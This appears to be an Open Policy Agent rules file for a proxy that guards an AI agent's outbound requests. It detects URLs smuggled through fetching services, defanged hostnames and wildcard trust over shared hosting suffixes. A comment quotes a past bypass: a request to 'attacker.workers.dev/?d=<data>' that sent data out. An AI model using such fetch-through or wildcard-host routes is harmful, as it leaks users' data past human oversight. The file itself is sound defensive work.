defanged_dot := `[\s\p{Z}]*[\[({<][\s\p{Z}]*(?:\.|(?i:dot))[\s\p{Z}]*[\])}>][\s\p{Z}]*`

spoken_dot := `[\s\p{Z}]+(?:(?i:dot)|\.)[\s\p{Z}]+`

spoken_tlds := {"com", "net", "org", "io", "co", "dev", "app", "ai", "xyz", "info", "biz", "site", "online", "uk", "de", "ru", "cn", "sh", "ly", "gg", "cc", "tk", "ml", "ga", "cf", "pw"}

prose_names(t) := {h |
	some f in parser_forms(t)
	some m in regex.find_all_string_submatch_n(prose_host_re, f, 64)
	count(m[1]) <= 254 # a longer name resolves nowhere
	h := trim_suffix(lower(m[1]), ".")
	target_host_ok(h)
	not harmless_target(h)
}

# A name under a top-level domain (or an IPv4 address) standing as a word of prose.
prose_host_re := concat("", [
	`(?i)(?:^|[^\pL\pN@._%/-])((?:[\pL\pN-]+\.)+`, name_tld, `|[0-9]{1,3}(?:\.[0-9]{1,3}){3})(?:[^\pL\pN-]|$)`,
])

body_fetch_texts contains v if {
	is_object(input.request.body.json)
	some k, x in input.request.body.json
	body_fetch_key(k)
	some v in strings_of(x)
}

# Below the top level, at most eight levels down, in bodies of 64 KiB at most (a bigger body: its top
# level only, above).
body_fetch_texts contains v if {
	some [c, d, v] in body_named
	c == "fetch"
	d > 1
}

# Each string's depth and the class of the name it is under, in one pass.
body_named := [[c, count(p), v] | some [p, v] in body_strings; count(p) <= 9; c := name_classes[field_name(p)]]

# Each name once (a body repeats few names many times).
name_classes := {n: c | some n in {field_name(p) | some [p, _] in body_strings}; c := name_class(field_norm(n))}

# The strings of a JSON body of 64 KiB at most with their paths, in one walk (every rule above and
# below reads this list), at most 4,096 of them.
body_strings := array.slice(all, 0, 4096) if {
	x := input.request.body.json
	is_body_tree(x)
	input.request.body.size <= 65536
	all := [[p, v] | walk(x, [p, v]); is_string(v)]
} else := []

# The name a string is under: its key, or its list's (`"urls": ["…"]`).
field_name(p) := p[count(p) - 1] if is_string(p[count(p) - 1])

else := p[count(p) - 2] if count(p) > 1

else := ""

body_fetch_texts contains v if {
	some k, vs in object.get(input.request.body, "form", {})
	body_fetch_key(k)
	some v in vs
}

body_url_texts contains v if {
	some [c, _, v] in body_named
	c == "url"
}

body_url_texts contains v if {
	some k, vs in object.get(input.request.body, "form", {})
	body_url_key(k)
	some v in vs
}

# A field whose whole value is a URL, whatever its name (Gitea's migration `clone_addr`, an import's
# `from`, a bookmark's `target`): a service given a reference fetches it as often as not (a preview,
# an import, a verification), while a URL inside prose (`"note": "see https://… later"`) is a note.
# At most 1,024 strings of a body of 64 KiB (seventeenth pass).
body_url_texts contains v if {
	not named_browse_source(host) # a search API searches for the URL in its `query` (Tavily, Exa take POSTs)
	some [_, v] in array.slice(body_strings, 0, 1024)
	url_punctuated(v) # cheap before the patterns: most strings are names and ids
	not contains(trim_space(v), " ")
}

url_punctuated(v) if contains(v, "/")

url_punctuated(v) if contains(v, ":")

url_punctuated(v) if contains(v, "%")

url_punctuated(v) if contains(v, "\\")

body_url_texts contains v if {
	not named_browse_source(host) # a search form searches for the URL in its `q` (DuckDuckGo's HTML endpoint takes POSTs)
	some _, vs in object.get(input.request.body, "form", {})
	some v in vs
	regex.match(`^\s*\S+\s*$`, v)
}

# A body that is a URL and nothing else (a text, a JSON string, a top-level list of them: a batch
# fetch), whatever it is sent to.
body_url_texts contains t if {
	not "json" in object.keys(input.request.body) # a compact JSON body is no URL (its fields are read above)
	not "form" in object.keys(input.request.body)
	t := trim_space(object.get(input.request.body, "text", ""))
	count(t) <= 8192
	regex.match(`^\S+$`, t)
}

body_url_texts contains v if {
	x := input.request.body.json
	is_array(x)
	some v in strings_of(x)
}

# An XML-RPC pingback (`pingback.ping(source, target)`: WordPress fetches `source` to verify it).
body_url_texts contains m[1] if {
	t := object.get(input.request.body, "text", "")
	regex.match(`<methodName>\s*pingback\.ping\s*</methodName>`, t)
	some m in regex.find_all_string_submatch_n(`<(?:string|value)>\s*([^<\s]+)\s*</(?:string|value)>`, t, 16)
}

# A GraphQL argument given inline (Browserless' BrowserQL: `mutation { goto(url: "https://…") { status } }`;
# variables are read above as JSON fields), at most 64 of them (seventeenth pass).
body_fetch_texts contains v if {
	some m in graphql_arguments
	body_fetch_key(m[1])
	v := m[2]
}

body_url_texts contains v if {
	some m in graphql_arguments
	body_url_key(m[1])
	v := m[2]
}

# A GraphQL document's arguments given inline as strings (`name: "value"`), at most 64 a document,
# as [_, name, value].
graphql_arguments contains m if {
	q := graphql_texts[_]
	some m in regex.find_all_string_submatch_n(`([_A-Za-z][_0-9A-Za-z]*)\s*:\s*"((?:[^"\\]|\\.)*)"`, q, 64)
}

graphql_texts contains q if {
	object.get(input, ["graphql", "parsed"], false) == true
	q := input.request.body.json.query
	is_string(q)
}

graphql_texts contains q if {
	object.get(input, ["graphql", "parsed"], false) == true
	some op in input.request.body.json
	q := op.query
	is_string(q)
}

is_body_tree(x) if is_object(x)

is_body_tree(x) if is_array(x)

strings_of(x) := [x] if is_string(x)

strings_of(x) := [v | some v in array.slice(x, 0, 256); is_string(v)] if is_array(x)

default fetched_text := "a URL whose host cannot be read"

fetched_text := concat(", ", array.slice(others, 0, 3)) if {
	others := sort([h | some h in carried_url_hosts; not same_site(h)])
	count(others) > 0
}

verdicts contains approve(
	"host.fetches_url", concat("", [
		input.request.method, " ", host, " carries a URL of another site (", fetched_text, "): a host that fetches what it is ",
		"given (a reader, an archive, a translate or image proxy, a link previewer) would take data in that URL to a host ",
		"nobody allowed, so a human must approve. A link a response of this session served can be followed as it is",
	]),
	"medium",
) if {
	fetch_through
}

# ---------------------------------------------------------------------------------------------
# Wildcards over a public suffix. `*.workers.dev`, `*.github.io`, `*.vercel.app`, `*.s3.amazonaws.com`
# and `*.co.uk` name the hosts of everyone who signs up there, an attacker's included: a suffix the
# Public Suffix List names (data.public_suffixes, both its ICANN and its private section) lies between
# the host and the pattern. Where a pattern grants trust — a trusted sink reads of which go on in the
# trifecta, a `labels.hosts` entry that says what a host's answers bring — such a pattern cannot vouch
# for a host it spans (fourteenth pass: `"trusted_sinks": ["*.workers.dev"]` let the trifecta's GET
# to `attacker.workers.dev/?d=<data>` go on, and `"*.vercel.app": []` made an attacker's app bring
# nothing). `*.acme.workers.dev` names one owner's hosts and keeps working.
wildcard_spans_owners(p, h) if {
	startswith(p, "*.")
	s := substring(p, 2, -1)
	parts := split(h, ".")
	n := count(parts)
	n >= 2
	some i in numbers.range(1, n - 1)
	suffix := concat(".", array.slice(parts, i, n))
	count(suffix) >= count(s)
	public_suffix(suffix)
}

public_suffix(x) if public_rule(x)

# A rule of the list as written (`co.uk`, `*.ck`, `!www.ck`). The list is kept as one line-separated
# string per top-level domain: as an object of ~9,800 keys it cost every evaluation thread's heap and
# WebAssembly memory ~8 MiB (the idle proxy's RSS with the default policy rose ~45 MiB).
public_rule(r) if {
	labels := split(trim_prefix(r, "!"), ".")
	contains(data.public_suffixes.by_tld[rule_bucket(labels)], concat("", ["\n", r, "\n"]))
}

# A top-level domain with many rules (`com`, `jp`) has them split into strings by the first
# character of the labels before it (`com/a/a`, named in data.public_suffixes.split, at most four
# levels: scripts/public-suffixes.js), each keeping the rules no longer than its key: a look-up
# scans a few KiB (seventeenth pass: `com`'s 30 KB was scanned up to 16 times per host, and a read
# naming 500 hosts of 44 labels took 5-30 s).
rule_bucket(l) := k4 if {
	n := count(l)
	n >= 4
	k3 := bucket_key(l, n, 3)
	data.public_suffixes.split[k3]
	k4 := concat("/", [k3, substring(l[n - 4], 0, 1)])
} else := k3 if {
	n := count(l)
	n >= 3
	k2 := bucket_key(l, n, 2)
	data.public_suffixes.split[k2]
	k3 := concat("/", [k2, substring(l[n - 3], 0, 1)])
} else := k2 if {
	n := count(l)
	n >= 2
	data.public_suffixes.split[l[n - 1]]
	k2 := concat("/", [l[n - 1], substring(l[n - 2], 0, 1)])
} else := l[count(l) - 1]

bucket_key(l, n, 2) := concat("/", [l[n - 1], substring(l[n - 2], 0, 1)])

bucket_key(l, n, 3) := concat("/", [l[n - 1], substring(l[n - 2], 0, 1), substring(l[n - 3], 0, 1)])

public_suffix(x) if {
	parts := split(x, ".")
	count(parts) >= 2
	public_rule(concat(".", array.concat(["*"], array.slice(parts, 1, count(parts)))))
	not public_rule(concat("", ["!", x]))
}

# The labels.hosts entry that decides is a `*.` pattern spanning owners here: what it says a host
# brings stands, and so does what any host's page brings (labels.other_hosts: `untrusted`).
host_label_wildcard_spans if {
	not host_label_entries[host]
	not host_label_entry_unicode # (a ref in a ref is evaluated before `not`: undefined for an ASCII host)
	wild := [k | some p, _ in host_label_entries; k := label_host_key(p); startswith(k, "*."); host_matches(k, host)]
	count(wild) > 0
	every k in wild {
		wildcard_spans_owners(k, host)
	}
}

host_label_entry_unicode if host_label_entries[input.request.host_unicode]

response_labels contains label if {
	host_labels_apply
	host_label_wildcard_spans
	some label in object.get(label_config, "other_hosts", ["untrusted"])
}
